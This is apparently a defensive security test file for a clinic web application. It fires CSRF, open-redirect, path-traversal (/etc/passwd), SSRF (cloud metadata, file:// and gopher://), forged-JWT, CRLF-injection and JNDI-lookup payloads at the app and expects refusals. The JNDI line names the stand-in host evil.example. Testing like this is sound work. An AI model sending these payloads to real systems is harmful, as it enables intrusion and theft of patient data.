"""What is asked by somebody who may not, or in somebody else's name."""

import json
import re

from tests.trust.attacks.input import API, MARA
from tests.trust.attacks.listed import attack
from tests.trust.attacks.target import EVIL

NOBODY = "0193a000-0000-7000-8000-000000000000"


@attack(
    "CSRF",
    sent="forms and JSON with somebody's cookie from another site, without their token or with a made-up one",
    expected="403",
)
def csrf(target, seen):
    forged = {"Origin": f"https://{EVIL}", "Referer": f"https://{EVIL}/"}
    add, form = "/admin/clinic/patient/add/", {**MARA, "_save": "1"}
    seen.answer(target.post(add, form=form, who="desk"), 403)
    seen.answer(target.post(add, form=form, who="desk", headers=forged), 403)
    seen.answer(
        target.post(
            add,
            form={**form, "csrfmiddlewaretoken": "a" * 32},
            who="desk",
            headers={"Cookie": f"csrftoken={'a' * 32}; __Host-csrftoken={'a' * 32}"},
        ),
        403,
    )
    seen.answer(target.post(f"{API}/patients/", json_body=MARA, who="desk", headers=forged), 403)
    seen.answer(
        target.post(f"{API}/patients/", body=json.dumps(MARA).encode(), kind="text/plain", who="desk", headers=forged),
        403,
        415,
    )


@attack(
    "Open redirects",
    sent="next=https://evil.example, //evil.example, \\\\evil.example, javascript:",
    expected="no way there",
)
def redirects(target, seen):
    for wanted in (
        f"https://{EVIL}/",
        f"//{EVIL}/",
        f"/\\{EVIL}",
        "javascript:alert(1)",
        f"https:{EVIL}",
        "%0d%0aLocation:%20x",
    ):
        for path in (f"/admin/login/?next={wanted}", f"/admin/logout/?next={wanted}", f"/?next={wanted}"):
            answer = seen.answer(target.get(path), 200, 302, 400, 405)
            seen.fact("stays", not re.match(rf"(https?:)?[/\\]*{EVIL}|javascript", answer.location))
        answer = target.post("/i18n/setlang/", form={"language": "es", "next": wanted})
        seen.fact("stays", EVIL not in answer.location and "javascript" not in answer.location)


@attack(
    "Somebody else's host",
    sent="Host: evil.example; X-Forwarded-Host; an absolute address",
    expected="400, or not believed",
)
def host(target, seen):
    seen.answer(target.get("/admin/login/", headers={"Host": EVIL}), 400)
    seen.answer(target.get(f"{API}/me/", headers={"Host": EVIL}), 400)
    told = seen.answer(
        target.get("/", headers={"X-Forwarded-Host": EVIL, "Forwarded": f"host={EVIL}"}), 302, without=(EVIL,)
    )
    seen.fact("stays", EVIL not in told.location)


@attack(
    "Path traversal",
    sent="../ and its disguises below /static/, ids, kinds of files",
    expected="400, 404 or led to the same with a slash; nothing of the machine",
)
def traversal(target, seen):
    for path in (
        "/static/../manage.py",
        "/static/%2e%2e/%2e%2e/manage.py",
        "/static/..%2f..%2fmanage.py",
        "/static/....//....//etc/passwd",
        "//etc/passwd",
        "/static//etc/passwd",
        "/admin/clinic/dataimport/template/..%2f..%2fetc%2fpasswd.csv",
        f"{API}/imports/kinds/..%2f..%2fetc%2fpasswd.csv",
    ):
        answer = seen.answer(
            target.get(path, who="desk"), 301, 400, 404, without=("root:", "SECRET_KEY", "django.core")
        )
        seen.fact("stays", not answer.location.startswith("//"))


@attack(
    "SSRF by a webhook",
    sent="addresses of this machine, its network, a cloud's metadata; numbers in disguise; other schemes",
    expected="400 or 422",
)
def ssrf(target, seen):
    for url in (
        "https://127.0.0.1/",
        "https://localhost/",
        "https://169.254.169.254/latest/meta-data/",
        "https://[::1]/",
        "https://[::ffff:127.0.0.1]/",
        "https://0x7f000001/",
        "https://2130706433/",
        "https://127.1/",
        "https://10.0.0.1/",
        "https://a@93.184.215.14/",
        "http://93.184.215.14/",
        "file:///etc/passwd",
        "gopher://127.0.0.1/",
    ):
        body = {"name": "x", "url": url, "event_types": ["*"]}
        seen.answer(target.post(f"{API}/webhook-endpoints/", json_body=body, who="token"), 400, 422)


@attack(
    "Mass assignment", sent="id, version, roles, is_staff, merged_into beside what may be said", expected="400 by name"
)
def assignment(target, seen):
    for more in ({"is_staff": True}, {"id": NOBODY}, {"version": 99}, {"roles": ["manager"]}, {"merged_into": NOBODY}):
        seen.answer(target.post(f"{API}/patients/", json_body=MARA | more, who="token"), 400)


@attack(
    "Somebody else's rows",
    sent="ids of users, exports, records and answers that the one who asks may not see",
    expected="403 or 404, alike for what isn't there",
)
def rows(target, seen):
    ids = target.hands.ids
    for path in (
        "/admin/clinic/user/{}/change/",
        "/admin/treatments/sessionrecord/{}/change/",
        "/admin/treatments/concernnote/{}/change/",
    ):
        there, gone = (target.get(path.format(one), who="desk") for one in (ids["user"], NOBODY))
        seen.answer(there, 302, 403, 404)
        seen.fact("alike", there.status == gone.status)
    for path in (f"{API}/exports/{{}}/", f"{API}/exports/{{}}/content/", f"{API}/imports/{{}}/"):
        there, gone = (target.get(path.format(one), who="token") for one in (ids["export"], NOBODY))
        seen.answer(there, 404)
        seen.fact("alike", _same(there) == _same(gone))
    seen.answer(target.get(f"{API}/patients/{ids['patient']}/", who="weak"), 403)
    seen.answer(target.get(f"{API}/audit-events/", who="token"), 403)


def _same(answer):
    return re.sub(r"urn:request:[\w.-]+", "", answer.text)


@attack(
    "Forged credentials",
    sent="tokens of others' shape, a JWT with alg none, a session id made up, Basic",
    expected="401, or the page to sign in",
)
def forged(target, seen):
    jwt = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJtYW5hZ2VyIn0."
    for sent in (
        f"Bearer {jwt}",
        "Bearer ck_0123456789abcdef." + "a" * 43,
        "Bearer " + target.hands.token[:-1] + "!",
        "Basic bWFuYWdlcjpjbGluaWMtZGVtbw==",
    ):
        seen.answer(target.get(f"{API}/me/", headers={"Authorization": sent}), 401)
    for cookie in ("a" * 32, "../../etc/passwd", "{}"):
        seen.answer(target.get("/admin/", headers={"Cookie": f"{target.cookie}={cookie}"}), 302)


@attack(
    "Session fixation", sent="a session id of the attacker's, with the form to sign in", expected="another id after it"
)
def fixation(target, seen):
    chosen = "a" * 32
    first = target.get("/admin/login/", headers={"Cookie": f"{target.cookie}={chosen}"})
    token = re.search(r'csrfmiddlewaretoken" value="(\w+)"', first.text)[1]
    csrf_cookie = re.search(r"((?:__Host-)?csrftoken=\w+)", first.headers["set-cookie"])[1]
    form = {"username": "front-desk", "password": "correct horse battery", "csrfmiddlewaretoken": token}
    sent = {"Cookie": f"{target.cookie}={chosen}; {csrf_cookie}", "Referer": f"{target.origin}/admin/login/"}
    answer = seen.answer(target.post("/admin/login/", form=form, headers=sent), 302)
    cookies = answer.headers.get("set-cookie", "")
    seen.fact("a new id", f"{target.cookie}=" in cookies and chosen not in cookies)


@attack(
    "Who is there", sent="a name that is known and one that isn't, with a wrong password", expected="the same answer"
)
def names(target, seen):
    answers = []
    for name in ("front-desk", "nobody-of-that"):
        first = target.get("/admin/login/")
        token = re.search(r'csrfmiddlewaretoken" value="(\w+)"', first.text)[1]
        cookie = re.search(r"((?:__Host-)?csrftoken=\w+)", first.headers["set-cookie"])[1]
        form = {"username": name, "password": "wrong", "csrfmiddlewaretoken": token}
        sent = {"Cookie": cookie, "Referer": f"{target.origin}/admin/login/"}
        answer = seen.answer(target.post("/admin/login/", form=form, headers=sent), 200, 429)
        answers.append(re.sub(r'value="\w+"', "", answer.text.replace(name, "")))
    seen.fact("alike", answers[0] == answers[1])


@attack(
    "Methods",
    sent="TRACE, CONNECT, PUT and DELETE where there are none; X-HTTP-Method-Override; _method",
    expected="405, and nothing done",
)
def methods(target, seen):
    patient = f"{API}/patients/{target.hands.ids['patient']}/"
    for method in ("TRACE", "PUT", "DELETE", "PROPFIND", "ABCDEF"):
        seen.answer(target.ask(method, patient, who="token"), 400, 405, 501)
    override = {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "DELETE", "X-HTTP-Method": "DELETE"}
    seen.answer(target.post(patient, json_body={"_method": "DELETE"}, who="token", headers=override), 405)
    seen.answer(target.get(f"{patient}?_method=DELETE", who="token", headers=override), 400)
    seen.answer(target.get(patient, who="token", headers=override), 200)


@attack("What is kept on the way", sent="pages and answers about patients", expected="no-store on each")
def caches(target, seen):
    patient = target.hands.ids["patient"]
    for path, who in (
        ("/admin/", "desk"),
        (f"/admin/clinic/patient/{patient}/change/", "desk"),
        (f"{API}/patients/{patient}/", "token"),
        (f"/fhir/R4/Patient/{patient}", "token"),
        (f"/a/{target.hands.ids['link']}/", ""),
    ):
        answer = seen.answer(target.get(path, who=who), 200)
        seen.fact("no-store", "no-store" in answer.headers.get("cache-control", ""))


@attack(
    "What an error tells",
    sent="addresses that aren't there, bodies that can't be read",
    expected="no traceback, path, version or value",
)
def errors(target, seen):
    tells = ("traceback", "site-packages", "/work/", "django/", "psycopg", r"python/\d", "SECRET")
    seen.answer(target.get("/nowhere"), 404, without=tells)
    seen.answer(target.get("/admin/clinic/patient/?given_name__regex=("), 302, 400, without=tells)
    seen.answer(target.get("/admin/clinic/patient/?guardian_name__icontains=a", who="desk"), 400, without=tells)
    bad = target.post(
        f"{API}/patients/", json_body={"given_name": "Zelda-of-nowhere", "birth_date": "yesterday"}, who="token"
    )
    seen.answer(bad, 400, without=(*tells, "Zelda-of-nowhere", "yesterday"))


@attack(
    "Lines in headers",
    sent="CR LF in X-Request-ID's place, in next, in a file's name",
    expected="no header of the attacker's",
)
def lines(target, seen):
    for path in ("/admin/login/?next=/%0d%0aX-Evil:%201", "/?%0d%0aX-Evil:%201", "/a/%0d%0aX-Evil:1/"):
        answer = seen.answer(target.get(path), 200, 302, 400, 404)
        seen.fact("none", "x-evil" not in answer.headers)
    answer = target.get("/healthz", headers={"X-Request-ID": "${jndi:ldap://evil.example/a}"})
    seen.fact("an id of our own", "jndi" not in answer.headers["x-request-id"])
